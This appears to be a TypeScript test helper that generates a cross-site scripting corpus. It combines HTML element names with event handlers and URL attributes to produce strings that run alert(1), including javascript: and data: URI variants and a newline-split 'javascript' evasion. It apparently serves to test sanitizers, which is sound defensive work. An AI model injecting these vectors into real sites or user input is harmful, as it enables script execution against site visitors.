const elements =
  'a abbr acronym address applet area article aside audio b base bdi bdo big blink body br button canvas center cite code col command content custom-x data datalist dd del details dfn dialog dir div dl dt element em embed fieldset figcaption figure font footer form frame frameset h1 h2 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext pre progress q rb rp rt rtc ruby s samp script section select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp'.split(
    ' ',
  );
const handlers =
  'abort afterprint animationend animationiteration animationstart auxclick beforecopy beforeinput beforematch beforetoggle begin blur canplay change click close contextmenu copy cuechange cut dblclick drag drop end ended error focus focusin focusout formdata fullscreenchange hashchange input invalid keydown keypress keyup load loadeddata loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pageshow paste play pointerdown pointerenter pointermove pointerover pointerrawupdate pointerup popstate progress repeat reset resize scroll scrollend search securitypolicyviolation seeked select show start submit suspend toggle touchend touchstart transitionend transitionrun unhandledrejection unload volumechange webkitanimationstart wheel'.split(
    ' ',
  );
const addressed =
  'href src action formaction data poster srcset background cite longdesc xlink:href ping srcdoc manifest code codebase'.split(' ');
const programs = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>parent.alert(1)</script>',
];

/** What the long lists of vectors do: every element with every handler, and every element with every attribute that takes an address. */
export function combinations(): ReadonlyArray<string> {
  const handled = elements.flatMap((name) =>
    handlers.map((event) => `<${name} src=x autofocus tabindex=0 on${event}=alert(1)>x</${name}>`),
  );
  const led = elements.flatMap((name) =>
    addressed.flatMap((attribute) => programs.map((to) => `<${name} ${attribute}="${to}">x</${name}>`)),
  );
  return [...handled, ...led];
}
